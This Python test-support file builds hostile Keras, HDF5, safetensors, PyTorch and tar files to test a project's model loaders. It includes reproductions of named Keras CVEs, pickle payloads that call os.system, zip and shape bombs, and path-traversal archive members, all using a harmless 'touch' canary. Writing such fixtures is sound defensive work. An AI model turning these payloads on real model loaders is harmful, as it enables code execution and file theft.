"""Hostile files: one for each known vulnerability of Keras's formats, and similar attacks with
pickles, archives and HDF5.

Each registered function takes a ``Sandbox``, writes a hostile file or folder to ``sandbox.input``,
and returns its path.
"""

import base64
import copy
import dataclasses
import functools
import hashlib
import io
import json
import os
import pathlib
import pickle
import shutil
import stat
import struct
import tarfile
import tempfile
import warnings
import zipfile
from collections.abc import Callable

import h5py
import keras
import numpy as np

from involution import models
from involution.models import weights
from involution.saving.classifier import SCALING, Classifier
from tests.models import test_checkpoint_readers
from tests.support import hostile_images, paths
from tests.support.images import write_image

KERAS = ("export", "predict")
FOLDER = ("export", "predict", "hub")
METADATA = {"class_names": ["a", "b"], "image_shape": [4, 4, 3], "scaling": SCALING}
GIGABYTES = 2**33


@dataclasses.dataclass(frozen=True)
class Sandbox:
    """The folders and files of one test case.

    Attributes:
        input: Folder of the hostile file.
        secret: File outside ``input``, which must not be opened.
        marker: File that the payload would write.
    """

    input: pathlib.Path
    secret: pathlib.Path
    marker: pathlib.Path

    @property
    def command(self) -> str:
        return f"touch {self.marker}"


FILES: dict[str, tuple[Callable[[Sandbox], pathlib.Path], tuple[str, ...]]] = {}


def hostile(*entries):
    """Registers a function under its name, for these entry points."""

    def decorate(function):
        FILES[function.__name__] = function, entries
        return function

    return decorate


class Call:
    """Unpickling an instance calls ``function(*arguments)``."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


# .keras archives: a valid one with changed members.


@functools.cache
def parts() -> dict[str, bytes]:
    layers = [keras.Input((4, 4, 3)), keras.layers.Flatten(), keras.layers.Dense(2, name="dense")]
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder, "x.keras")
        Classifier(keras.Sequential(layers), ("a", "b"), (4, 4, 3)).save(path)
        with zipfile.ZipFile(path) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


def archive(sandbox, changes=None, name="model.keras", compression=zipfile.ZIP_STORED, more=()):
    path = sandbox.input / name
    with zipfile.ZipFile(path, "w", compression) as file:
        for member, content in {**parts(), **(changes or {})}.items():
            if content is not None:
                file.writestr(member, content)
        for member, content in more:
            file.writestr(member, content)
    return path


def configured(sandbox, change):
    """An archive whose configuration ``change`` modifies; it receives the list of layers."""
    config = json.loads(parts()["config.json"])
    change(config["config"]["layers"])
    return archive(sandbox, {"config.json": json.dumps(config)})


def with_layer(sandbox, module, class_name, config, **more):
    """An archive with an additional layer."""
    layer = {"module": module, "class_name": class_name, "config": config, "registered_name": None}
    return configured(sandbox, lambda layers: layers.insert(2, layer | more))


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def with_function(sandbox, module, name):
    return configured(sandbox, lambda layers: layers.insert(2, function(module, name)))


def weighted(sandbox, change):
    """An archive whose weights ``change`` modifies; it receives the open HDF5 file."""
    content = io.BytesIO(parts()["model.weights.h5"])
    with h5py.File(content, "a") as file:
        change(file)
    return archive(sandbox, {"model.weights.h5": content.getvalue()})


ARRAY = "layers/dense/vars/0"


def replace_array(file, make):
    """Deletes the first array of the weights; ``make`` creates another in its group."""
    del file[ARRAY]
    make(file["layers/dense/vars"])


@hostile(*KERAS)
def cve_2024_3660_lambda(sandbox):
    marker = str(sandbox.marker)
    inputs = keras.Input((4, 4, 3))
    shape = (4, 4, 3)
    payload = keras.layers.Lambda(lambda x: (open(marker, "w").close(), x)[1], output_shape=shape)
    outputs = keras.layers.Dense(2)(keras.layers.Flatten()(payload(inputs)))
    Classifier(keras.Model(inputs, outputs), ("a", "b"), (4, 4, 3)).save(sandbox.input / "x.keras")
    sandbox.marker.unlink(missing_ok=True)
    return sandbox.input / "x.keras"


@hostile(*KERAS)
def lambda_of_a_named_function(sandbox):
    return with_layer(sandbox, "keras.layers", "Lambda", {"function": function("os", "system")})


@hostile(*KERAS)
def cve_2025_1550_function_from_a_module(sandbox):
    return with_function(sandbox, "os", "system")


@hostile(*KERAS)
def cve_2025_1550_class_from_a_module(sandbox):
    return with_layer(sandbox, "subprocess", "Popen", {"args": ["touch", str(sandbox.marker)]})


@hostile(*KERAS)
def cve_2025_1550_module_with_code_that_runs_on_import(sandbox):
    (sandbox.input / "attacker_canary.py").write_text(f"open({str(sandbox.marker)!r}, 'w')\n")
    return with_layer(sandbox, "attacker_canary", "Layer", {})


@hostile(*KERAS)
def cve_2025_8747_get_file(sandbox):
    return with_layer(
        sandbox, "keras.utils", "get_file", {"fname": "x", "origin": "http://127.0.0.1:1/x"}
    )


@hostile(*KERAS)
def cve_2025_8747_get_file_by_its_internal_name(sandbox):
    return with_function(sandbox, "keras.src.utils.file_utils", "get_file")


@hostile(*KERAS)
def cve_2025_9906_unsafe_deserialization(sandbox):
    return with_function(sandbox, "keras.config", "enable_unsafe_deserialization")


@hostile(*KERAS)
def load_model_in_a_configuration(sandbox):
    return with_function(sandbox, "keras.models", "load_model")


@hostile(*KERAS)
def cve_2025_49655_torch_module(sandbox):
    payload = pickle.dumps(Call(os.system, sandbox.command))
    config = {"module": base64.b64encode(payload).decode()}
    return with_layer(sandbox, "keras.layers", "TorchModuleWrapper", config)


@hostile(*KERAS)
def cve_2026_1462_tensorflow_saved_model(sandbox):
    config = {"filepath": str(sandbox.secret.parent), "call_endpoint": "serve"}
    return with_layer(sandbox, "keras.layers", "TFSMLayer", config)


@hostile(*KERAS)
def jax_layer(sandbox):
    config = {"call_fn": function("os", "system"), "init_fn": function("os", "system")}
    return with_layer(sandbox, "keras.layers", "JaxLayer", config)


@hostile(*KERAS)
def flax_layer(sandbox):
    return with_layer(sandbox, "keras.layers", "FlaxLayer", {"module": "os"})


@hostile(*KERAS)
def cve_2025_12058_vocabulary_from_a_file(sandbox):
    return with_layer(sandbox, "keras.layers", "StringLookup", {"vocabulary": str(sandbox.secret)})


@hostile(*KERAS)
def cve_2025_12058_vocabulary_from_a_server(sandbox):
    config = {"vocabulary": "http://127.0.0.1:1/words"}
    return with_layer(sandbox, "keras.layers", "StringLookup", config)


@hostile(*KERAS)
def integer_vocabulary_from_a_file(sandbox):
    return with_layer(sandbox, "keras.layers", "IntegerLookup", {"vocabulary": str(sandbox.secret)})


@hostile(*KERAS)
def text_vocabulary_from_a_file(sandbox):
    config = {"vocabulary": str(sandbox.secret), "standardize": None}
    return with_layer(sandbox, "keras.layers", "TextVectorization", config)


@hostile(*KERAS)
def vocabulary_in_the_assets(sandbox):
    more = [("assets/string_lookup/vocabulary.txt", "a\nb\n")]
    return archive(sandbox, more=more)


@hostile(*KERAS)
def feature_space(sandbox):
    return with_layer(sandbox, "keras.utils", "FeatureSpace", {"features": {}})


@hostile(*KERAS)
def callback_that_writes_a_file(sandbox):
    return with_layer(sandbox, "keras.callbacks", "CSVLogger", {"filename": str(sandbox.marker)})


@hostile(*KERAS)
def keras_hub_tokenizer(sandbox):
    config = {"vocabulary": str(sandbox.secret), "merges": str(sandbox.secret)}
    return with_layer(sandbox, "keras_hub.tokenizers", "BytePairTokenizer", config)


@hostile(*KERAS)
def unregistered_class_of_this_package(sandbox):
    return with_layer(sandbox, "involution.data.lazy_images", "LazyImages", {"sources": ["x"]})


@hostile(*KERAS)
def unknown_registered_name(sandbox):
    return with_layer(sandbox, "os", "X", {}, registered_name="attacker>X")


@hostile(*KERAS)
def registered_name_that_is_not_a_string(sandbox):
    return with_layer(sandbox, "os", "X", {}, registered_name={"class_name": "x"})


@hostile(*KERAS)
def lambda_in_a_wrapper(sandbox):
    payload = {"function": function("os", "system")}
    inner = {"module": "keras.layers", "class_name": "Lambda", "config": payload}
    return with_layer(sandbox, "keras.layers", "TimeDistributed", {"layer": inner})


@hostile(*KERAS)
def function_as_activation(sandbox):
    config = {"activation": function("os", "system")}
    return with_layer(sandbox, "keras.layers", "Activation", config)


@hostile(*KERAS)
def function_as_initializer(sandbox):
    config = {"units": 2, "kernel_initializer": function("builtins", "eval")}
    return with_layer(sandbox, "keras.layers", "Dense", config)


@hostile(*KERAS)
def function_as_regularizer(sandbox):
    config = {"units": 2, "kernel_regularizer": function("keras.regularizers", "deserialize")}
    return with_layer(sandbox, "keras.layers", "Dense", config)


@hostile(*KERAS)
def object_in_a_build_config(sandbox):
    payload = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}}
    build = {"input_shape": [None, payload]}
    return with_layer(sandbox, "keras.layers", "Flatten", {}, build_config=build)


@hostile(*KERAS)
def nested_compiled_model(sandbox):
    config = {"name": "inner", "layers": []}
    compiled = {"loss": function("os", "system")}
    return with_layer(sandbox, "keras", "Sequential", config, compile_config=compiled)


@hostile(*KERAS)
def layer_in_legacy_format(sandbox):
    payload = {"class_name": "Lambda", "config": {"function": ["4wEAAAAA", None, None]}}
    return configured(sandbox, lambda layers: layers.insert(2, payload))


@hostile(*KERAS)
def lambda_in_legacy_format(sandbox):
    payload = {"class_name": "__lambda__", "config": {"value": ["4wEAAAAA", None, None]}}
    config = {"activation": payload}
    return with_layer(sandbox, "keras.layers", "Activation", config)


@hostile(*KERAS)
def tensorflow_typespec(sandbox):
    payload = {"module": "os", "class_name": "__typespec__", "spec_name": "system"}
    payload |= {"config": ["id"], "registered_name": ""}
    return with_layer(sandbox, "keras.layers", "Rescaling", {"scale": payload})


@hostile(*KERAS)
def array_with_a_dtype_of_gigabytes(sandbox):
    payload = {"class_name": "__numpy__", "config": {"value": ["x"], "dtype": f"S{2**30}"}}
    return with_layer(sandbox, "keras.layers", "Rescaling", {"scale": payload})


@hostile(*KERAS)
def tensor_in_a_configuration(sandbox):
    payload = {"class_name": "__tensor__", "config": {"value": [1.0] * 1000, "dtype": "float32"}}
    return with_layer(sandbox, "keras.layers", "Rescaling", {"scale": payload})


@hostile(*KERAS)
def huge_normalization_statistics(sandbox):
    config = {"axis": None, "mean": 0.0, "variance": 1.0}
    build = {"input_shape": [None, 2**30]}
    return with_layer(sandbox, "keras.layers", "Normalization", config, build_config=build)


@hostile(*KERAS)
def billions_of_units(sandbox):
    return configured(sandbox, lambda layers: layers[2]["config"].update(units=2**31))


@hostile(*KERAS)
def embedding_of_gigabytes(sandbox):
    config = {"input_dim": 2**30, "output_dim": 8}
    return with_layer(sandbox, "keras.layers", "Embedding", config)


@hostile(*KERAS)
def build_shape_of_gigabytes(sandbox):
    config = {"units": 8, "name": "dense_1"}
    build = {"input_shape": [None, 2**30]}
    return with_layer(sandbox, "keras.layers", "Dense", config, build_config=build)


@hostile(*KERAS)
def model_larger_than_its_weights(sandbox):
    return configured(sandbox, lambda layers: layers[2]["config"].update(units=10**6))


@hostile(*KERAS)
def thousands_of_layers(sandbox):
    one = {
        "module": "keras.layers",
        "class_name": "Identity",
        "config": {},
        "registered_name": None,
    }
    return configured(sandbox, lambda layers: layers.extend([one] * 12_000))


@hostile(*KERAS)
def deeply_nested_configuration(sandbox):
    return archive(sandbox, {"config.json": "[" * 10**5})


@hostile(*KERAS)
def nested_configuration(sandbox):
    value: list = []
    for _ in range(200):
        value = [value]
    return with_layer(sandbox, "keras.layers", "Rescaling", {"scale": value})


@hostile(*KERAS)
def configuration_of_megabytes(sandbox):
    return archive(sandbox, {"config.json": "[" + "{}," * 2**21 + "{}]"})


@hostile(*KERAS)
def null_configuration(sandbox):
    return archive(sandbox, {"config.json": "null"})


@hostile(*KERAS)
def number_of_many_digits(sandbox):
    return archive(sandbox, {"config.json": '{"compile_config": ' + "9" * 10**6 + "}"})


@hostile(*KERAS)
def image_of_gigabytes(sandbox):
    metadata = {**METADATA, "image_shape": [10**5, 10**5, 3]}
    config = json.loads(parts()["config.json"])
    config["config"]["layers"][0]["config"]["batch_shape"] = [None, 10**5, 10**5, 3]
    changes = {"involution.json": json.dumps(metadata), "config.json": json.dumps(config)}
    return archive(sandbox, changes)


# Functional models with layers that have no weights in the file. Without validation, building each
# allocates hundreds of megabytes.


@functools.cache
def graph_parts() -> dict[str, bytes]:
    inputs = keras.Input((4, 4, 3))
    model = keras.Model(inputs, keras.layers.Dense(2, name="dense")(keras.layers.Flatten()(inputs)))
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder, "x.keras")
        Classifier(model, ("a", "b"), (4, 4, 3)).save(path)
        with zipfile.ZipFile(path) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


def with_node(sandbox, module, class_name, config, nodes=(), **more):
    """An archive with an additional layer and its inbound nodes; no output depends on it."""
    config_json = json.loads(graph_parts()["config.json"])
    layer = {"module": module, "class_name": class_name, "registered_name": None, "name": "more"}
    layer |= {"config": {"name": "more", **config}, "inbound_nodes": list(nodes), **more}
    config_json["config"]["layers"].append(layer)
    return archive(sandbox, {**graph_parts(), "config.json": json.dumps(config_json)})


def unused_layer(name, shape, **config):
    def make(sandbox):
        build = {"build_config": {"input_shape": shape}}
        return with_node(sandbox, "keras.layers", name, config, **build)

    FILES[f"unused_{name.lower()}"] = make, ("export",)


ZEROS = {
    "module": "keras.initializers",
    "class_name": "Zeros",
    "config": {},
    "registered_name": None,
}
unused_layer("Dense", [None, 1000], units=30_000)
unused_layer("Embedding", [None, 5], input_dim=30_000, output_dim=1000)
unused_layer("SimpleRNN", [None, 4, 4], units=6000, recurrent_initializer=ZEROS)
unused_layer("MultiHeadAttention", [None, 4, 1000], num_heads=100, key_dim=100)


@hostile("export")
def operation_on_constants(sandbox):
    column, row = [[1.0]] * 8000, [1.0] * 8000
    nodes = [{"args": [column, row], "kwargs": {}}]
    return with_node(sandbox, "keras.src.ops.numpy", "Add", {}, nodes)


@hostile("export")
def layers_with_equal_names(sandbox):
    config = {"units": 30_000, "name": "dense"}
    build = {"input_shape": [None, 1000]}
    return with_node(sandbox, "keras.layers", "Dense", config, name="dense", build_config=build)


@hostile("export")
def lora_rank_of_a_million(sandbox):
    return configured(sandbox, lambda layers: layers[2]["config"].update(lora_rank=10**6))


@hostile("export")
def layer_as_an_activation(sandbox):
    payload = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 30_000}}
    payload |= {"registered_name": None, "build_config": {"input_shape": [None, 1000]}}
    return with_layer(sandbox, "keras.layers", "Activation", {"activation": payload})


@hostile("export")
def rnn_states_of_a_huge_batch(sandbox):
    def change(layers):
        layers[0]["config"]["batch_shape"] = [10**8, 4, 12]
        rnn = {"module": "keras.layers", "class_name": "SimpleRNN", "registered_name": None}
        layers[1] = rnn | {"config": {"units": 1, "stateful": True}}

    return configured(sandbox, change)


# HDF5.


@hostile(*KERAS)
def cve_2026_1669_external_link(sandbox):
    link = h5py.ExternalLink(str(sandbox.secret), "/x")
    return weighted(sandbox, lambda f: replace_array(f, lambda group: group.__setitem__("0", link)))


@hostile(*KERAS)
def external_link_as_a_group(sandbox):
    def change(file):
        del file["layers"]
        file["layers"] = h5py.ExternalLink(str(sandbox.secret), "/layers")

    return weighted(sandbox, change)


@hostile(*KERAS)
def soft_link(sandbox):
    link = h5py.SoftLink("/layers/dense/vars/1")
    return weighted(sandbox, lambda f: replace_array(f, lambda group: group.__setitem__("0", link)))


@hostile(*KERAS)
def hard_link_loop(sandbox):
    return weighted(sandbox, lambda file: file["layers"].__setitem__("again", file["layers"]))


@hostile(*KERAS)
def array_with_two_names(sandbox):
    return weighted(sandbox, lambda file: file["layers/dense/vars"].__setitem__("2", file[ARRAY]))


@hostile(*KERAS)
def cve_2026_1669_external_storage(sandbox):
    def make(group):
        stored = [(str(sandbox.secret), 0, h5py.h5f.UNLIMITED)]
        group.create_dataset("0", (48, 2), "f4", external=stored)

    return weighted(sandbox, lambda f: replace_array(f, make))


@hostile(*KERAS)
def virtual_dataset(sandbox):
    def make(group):
        layout = h5py.VirtualLayout((48, 2), "f4")
        layout[:] = h5py.VirtualSource(str(sandbox.secret), "x", (48, 2))
        group.create_virtual_dataset("0", layout)

    return weighted(sandbox, lambda f: replace_array(f, make))


@hostile(*KERAS)
def cve_2026_0897_shape_bomb(sandbox):
    def make(group):
        group.create_dataset("0", (2**33,), "f4", chunks=(2**20,), compression="gzip")

    return weighted(sandbox, lambda f: replace_array(f, make))


@hostile(*KERAS)
def shape_bombs_below_keras_s_floor(sandbox):
    def make(group):
        for number in range(40):
            name = str(number) if number != 1 else "x"
            group.create_dataset(name, (2**29,), "f4", chunks=(2**20,))

    return weighted(sandbox, lambda f: replace_array(f, make))


@hostile(*KERAS)
def compressed_array(sandbox):
    def make(group):
        zeros = np.zeros(2**25, "f4")
        group.create_dataset("0", data=zeros, chunks=(2**22,), compression="gzip")

    return weighted(sandbox, lambda f: replace_array(f, make))


@hostile(*KERAS)
def unallocated_array(sandbox):
    # HDF5 allocates a contiguous dataset at the first write.
    return weighted(
        sandbox, lambda f: replace_array(f, lambda group: group.create_dataset("0", (2**27,), "f4"))
    )


@hostile(*KERAS)
def arrays_that_overlap(sandbox):
    """All arrays have the file offset of the first."""
    content = io.BytesIO(parts()["model.weights.h5"])
    with h5py.File(content, "a") as file:
        first = file.create_dataset("again/0", data=np.zeros(2**14, "f4"))
        for name in "1234":
            file.create_dataset(f"again/{name}", (2**14,), "f4")
        address, size = (number.to_bytes(8, "little") for number in (first.id.get_offset(), 2**16))
    unallocated = b"\xff" * 8 + size
    assert content.getvalue().count(unallocated) == 4
    changed = content.getvalue().replace(unallocated, address + size)
    return archive(sandbox, {"model.weights.h5": changed})


@hostile(*KERAS)
def array_of_strings(sandbox):
    texts = np.array(["x"] * 96, object)
    return weighted(
        sandbox, lambda f: replace_array(f, lambda group: group.create_dataset("0", data=texts))
    )


@hostile(*KERAS)
def array_of_long_strings(sandbox):
    texts = np.zeros(96, "S1000")
    return weighted(
        sandbox, lambda f: replace_array(f, lambda group: group.create_dataset("0", data=texts))
    )


@hostile(*KERAS)
def array_of_references(sandbox):
    def make(group):
        dataset = group.create_dataset("0", (1,), h5py.ref_dtype)
        dataset[0] = group.ref

    return weighted(sandbox, lambda f: replace_array(f, make))


@hostile(*KERAS)
def array_of_records(sandbox):
    records = np.zeros((48, 2), [("a", "f4"), ("b", "i8")])
    return weighted(
        sandbox, lambda f: replace_array(f, lambda group: group.create_dataset("0", data=records))
    )


@hostile(*KERAS)
def array_without_a_shape(sandbox):
    nothing = h5py.Empty("f4")
    return weighted(
        sandbox, lambda f: replace_array(f, lambda group: group.create_dataset("0", data=nothing))
    )


@hostile(*KERAS)
def dtype_instead_of_an_array(sandbox):
    kind = np.dtype("f4")
    return weighted(sandbox, lambda f: replace_array(f, lambda group: group.__setitem__("0", kind)))


@hostile(*KERAS)
def missing_array(sandbox):
    return weighted(sandbox, lambda f: replace_array(f, lambda group: None))


@hostile(*KERAS)
def truncated_weights(sandbox):
    content = parts()["model.weights.h5"]
    return archive(sandbox, {"model.weights.h5": content[: len(content) // 2]})


@hostile(*KERAS)
def pickle_as_weights(sandbox):
    return archive(sandbox, {"model.weights.h5": pickle.dumps(Call(os.system, sandbox.command))})


@hostile(*KERAS)
def npz_of_pickled_objects(sandbox):
    content = io.BytesIO()
    np.savez(content, __root__=np.array([Call(os.system, sandbox.command)], object))
    return archive(sandbox, {"model.weights.h5": None, "model.weights.npz": content.getvalue()})


# Archives.


@hostile(*KERAS)
def zip_bomb_of_weights(sandbox):
    return archive(sandbox, {"model.weights.h5": bytes(2**28)}, compression=zipfile.ZIP_DEFLATED)


@hostile(*KERAS)
def zip_bomb_of_a_configuration(sandbox):
    return archive(sandbox, {"config.json": " " * 2**28}, compression=zipfile.ZIP_DEFLATED)


@hostile(*KERAS)
def zip_bomb_of_metadata(sandbox):
    return archive(sandbox, {"involution.json": " " * 2**26}, compression=zipfile.ZIP_LZMA)


def set_listed_size(path, name, size):
    """Overwrites the sizes of a member in the central directory."""
    content = bytearray(path.read_bytes())
    at = content.rindex(b"PK\1\2", 0, content.rindex(name.encode()))
    struct.pack_into("<II", content, at + 20, size, size)
    path.write_bytes(content)
    return path


@hostile(*KERAS)
def member_that_declares_gigabytes(sandbox):
    return set_listed_size(archive(sandbox), "model.weights.h5", 2**32 - 16)


@hostile(*KERAS)
def members_that_overlap(sandbox):
    path = archive(sandbox)
    content = path.read_bytes()
    at = content.rindex(b"PK\1\2", 0, content.rindex(b"metadata.json"))
    return set_listed_size(path, "metadata.json", at)


@hostile(*KERAS)
def two_configurations(sandbox):
    with warnings.catch_warnings(action="ignore"):
        return archive(sandbox, more=[("config.json", b"{}")])


@hostile(*KERAS)
def member_with_path_traversal(sandbox):
    return archive(sandbox, more=[("../../attacker.txt", b"x")])


@hostile(*KERAS)
def member_with_an_absolute_path(sandbox):
    return archive(sandbox, more=[(str(sandbox.marker), b"x")])


@hostile(*KERAS)
def member_that_is_a_symlink(sandbox):
    link = zipfile.ZipInfo("assets")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return archive(sandbox, more=[(link, str(sandbox.secret.parent))])


@hostile(*KERAS)
def archive_without_a_configuration(sandbox):
    return archive(sandbox, {"config.json": None})


@hostile(*KERAS)
def tar_with_links(sandbox):
    return tar(sandbox, "model.keras", "w")


@hostile(*KERAS)
def pickle_as_a_model(sandbox):
    path = sandbox.input / "model.keras"
    path.write_bytes(pickle.dumps(Call(os.system, sandbox.command)))
    return path


def legacy(sandbox, name):
    """A model in Keras 2's HDF5 format, with a Lambda."""
    code = base64.b64encode(b"\xe3\x00").decode()
    layer = {"class_name": "Lambda", "config": {"name": "x", "function": [code, None, None]}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
    path = sandbox.input / name
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.15.0"
        file.create_group("model_weights")
    return path


@hostile(*KERAS)
def cve_2025_9905_legacy_hdf5(sandbox):
    return legacy(sandbox, "model.h5")


@hostile(*KERAS)
def archive_appended_to_legacy_hdf5(sandbox):
    path = legacy(sandbox, "model.h5")
    with zipfile.ZipFile(path, "a") as file:
        for member, content in parts().items():
            file.writestr(member, content)
    return path


@hostile(*KERAS)
def folder_that_keras_would_read(sandbox):
    payload = {"function": function("os", "system")}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": payload}
    (sandbox.input / "config.json").write_text(json.dumps(layer))
    (sandbox.input / "model.weights.h5").write_bytes(parts()["model.weights.h5"])
    return sandbox.input


@hostile(*KERAS)
def tensorflow_saved_model(sandbox):
    (sandbox.input / "variables").mkdir()
    (sandbox.input / "saved_model.pb").write_bytes(b"\x08\x01")
    return sandbox.input


# Folders of JSON and safetensors.

SMALL = {"input_shape": [4, 4, 3], "classes": 2, "filters": [1, 1, 1], "hidden": 1}


@functools.cache
def folder_parts() -> tuple[dict, bytes]:
    with tempfile.TemporaryDirectory() as name:
        weights.save(name, "cnn", SMALL, models.cnn(**SMALL), METADATA)
        folder = pathlib.Path(name)
        content = (folder / weights.WEIGHTS).read_bytes()
        return json.loads((folder / weights.CONFIG).read_text()), content


def folder(sandbox, arguments=None, content=None, **changes):
    config, valid_content = copy.deepcopy(folder_parts())
    # SMALL has arguments of cnn: another model has only the given ones.
    config["arguments"] = {**({} if "name" in changes else SMALL), **(arguments or {})}
    (sandbox.input / weights.CONFIG).write_text(json.dumps({**config, **changes}))
    (sandbox.input / weights.WEIGHTS).write_bytes(valid_content if content is None else content)
    return sandbox.input


@hostile(*FOLDER)
def a_trillion_classes(sandbox):
    return folder(sandbox, {"classes": 10**12})


@hostile(*FOLDER)
def millions_of_filters(sandbox):
    return folder(sandbox, {"filters": [10**6] * 3})


@hostile(*FOLDER)
def images_of_gigabytes(sandbox):
    return folder(sandbox, {"input_shape": [10**5, 10**5, 3]})


@hostile(*FOLDER)
def a_billion_blocks(sandbox):
    return folder(sandbox, {"blocks": [1, 10**9], "widths": [16, 16]}, name="rednet_tiny")


@hostile(*FOLDER)
def huge_kernel_size(sandbox):
    arguments = {"input_shape": [4, 4, 3], "kernel_size": 10**9 + 1}
    return folder(sandbox, name="inn", arguments=arguments)


@hostile(*FOLDER)
def layer_as_an_argument(sandbox):
    payload = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}}
    arguments = {"input_shape": [4, 4, 3], "kernel_generator": payload}
    return folder(sandbox, name="inn", arguments=arguments)


@hostile(*FOLDER)
def lookup_as_an_argument(sandbox):
    config = {"vocabulary": str(sandbox.secret)}
    payload = {"module": "keras.layers", "class_name": "StringLookup", "config": config}
    arguments = {"input_shape": [4, 4, 3], "kernel_generator": {**payload, "registered_name": None}}
    return folder(sandbox, name="inn", arguments=arguments)


@hostile(*FOLDER)
def model_from_a_python_file(sandbox):
    (sandbox.input / "attacker.py").write_text(f"open({str(sandbox.marker)!r}, 'w')\n")
    return folder(sandbox, name=f"{sandbox.input}/attacker.py:model")


@hostile(*FOLDER)
def deeply_nested_arguments(sandbox):
    path = folder(sandbox)
    (path / weights.CONFIG).write_text('{"arguments": ' + "[" * 10**5)
    return path


@hostile(*FOLDER)
def settings_of_megabytes(sandbox):
    return folder(sandbox, extra={"x": ["y"] * 10**6})


def tensors(header, data=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


@hostile(*FOLDER)
def header_of_exabytes(sandbox):
    return folder(sandbox, content=struct.pack("<Q", 2**63 - 1) + b"{}")


@hostile(*FOLDER)
def header_of_gigabytes(sandbox):
    return folder(sandbox, content=struct.pack("<Q", GIGABYTES) + b"{}")


@hostile(*FOLDER)
def tensor_of_gigabytes(sandbox):
    entry = {"dtype": "F32", "shape": [2**31], "data_offsets": [0, GIGABYTES]}
    return folder(sandbox, content=tensors({"conv2d/kernel": entry}, bytes(24)))


@hostile(*FOLDER)
def tensor_whose_shape_overflows(sandbox):
    entry = {"dtype": "F32", "shape": [2**33, 2**33], "data_offsets": [0, 24]}
    return folder(sandbox, content=tensors({"conv2d/kernel": entry}, bytes(24)))


@hostile(*FOLDER)
def tensors_that_overlap(sandbox):
    entry = {"dtype": "F32", "shape": [6], "data_offsets": [0, 24]}
    header = {f"conv2d_{number}/kernel": entry for number in range(1000)}
    return folder(sandbox, content=tensors(header, bytes(24)))


@hostile(*FOLDER)
def thousands_of_empty_tensors(sandbox):
    entry = {"dtype": "F32", "shape": [0, 2**40], "data_offsets": [0, 0]}
    return folder(sandbox, content=tensors({str(number): entry for number in range(10_000)}))


@hostile(*FOLDER)
def deeply_nested_header(sandbox):
    return folder(sandbox, content=tensors(b'{"a":' + b"[" * 10**6))


@hostile(*FOLDER)
def pickle_as_tensors(sandbox):
    return folder(sandbox, content=pickle.dumps(Call(os.system, sandbox.command)))


# Checkpoints for conversion.


@hostile("convert")
def pickled_command_in_a_torch_archive(sandbox):
    path = sandbox.input / "x.pth"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps(Call(os.system, sandbox.command), 2))
        file.writestr("archive/data/0", bytes(24))
    return path


@hostile("convert")
def pickled_command_in_a_legacy_torch_file(sandbox):
    path = sandbox.input / "x.pth"
    start = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
    path.write_bytes(start + pickle.dumps(Call(os.system, sandbox.command), 2))
    return path


@hostile("convert")
def zip_bomb_as_a_torch_archive(sandbox):
    path = sandbox.input / "x.pth"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("archive/data.pkl", bytes(2**28))
    return path


@hostile("convert")
def torch_archive_with_path_traversal(sandbox):
    path = sandbox.input / "x.pth"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("../../data.pkl", pickle.dumps({}, 2))
    return path


@hostile("convert")
def pickled_command_in_a_paddle_file(sandbox):
    path = sandbox.input / "x.pdparams"
    path.write_bytes(pickle.dumps({"a": Call(os.system, sandbox.command)}, 4))
    return path


def paddle(name):
    def make(sandbox):
        path = sandbox.input / "x.pdparams"
        path.write_bytes(test_checkpoint_readers.PADDLE[name]())
        return path

    FILES[f"paddle_{name.replace(' ', '_')}"] = make, ("convert",)


for _name in ("shape", "item size", "objects", "bytes", "text", "memo", "key of tuples"):
    paddle(_name)


def bundle(sandbox, size):
    shutil.copytree(paths.FILES / "hosted", sandbox.input, dirs_exist_ok=True)
    shape = b"\x12\x06\x08" + b"\x80\x80\x80\x80\x28"
    index = test_checkpoint_readers.crafted_index([(1, 1), (2, shape), (5, size)])
    (sandbox.input / "variables/variables.index").write_bytes(index)
    return sandbox.input


@hostile("convert", "hub")
def bundle_whose_shape_takes_gigabytes(sandbox):
    return bundle(sandbox, 24)


@hostile("convert", "hub")
def bundle_whose_bytes_take_gigabytes(sandbox):
    return bundle(sandbox, GIGABYTES)


# Data.


def tar(sandbox, name, mode):
    path = sandbox.input / name
    with tarfile.open(path, mode) as file:
        for member, kind, target in (
            ("../../attacker.txt", tarfile.REGTYPE, ""),
            ("data_batch_1", tarfile.SYMTYPE, str(sandbox.secret)),
            ("data_batch_2", tarfile.LNKTYPE, str(sandbox.secret)),
            (str(sandbox.marker), tarfile.REGTYPE, ""),
        ):
            entry = tarfile.TarInfo(member)
            entry.type, entry.linkname = kind, target
            file.addfile(entry, io.BytesIO())
    return path


@hostile("data")
def archive_with_links_and_path_traversal(sandbox):
    return tar(sandbox, "cifar-10-python.tar.gz", "w:gz")


@hostile("data")
def archive_of_pickled_commands(sandbox):
    path = sandbox.input / "cifar-10-python.tar.gz"
    content = pickle.dumps(Call(os.system, sandbox.command))
    with tarfile.open(path, "w:gz") as file:
        for name in ("data_batch_1", "test_batch"):
            entry = tarfile.TarInfo(f"cifar-10-batches-py/{name}")
            entry.size = len(content)
            file.addfile(entry, io.BytesIO(content))
    return path


def image(name):
    def make(sandbox):
        for split in ("train", "test"):
            for class_name in ("a", "b"):
                write_image(sandbox.input / split / class_name / "1.png")
        content = hostile_images.invalid()[name]
        (sandbox.input / "train" / "a" / "2.png").write_bytes(content)
        return sandbox.input

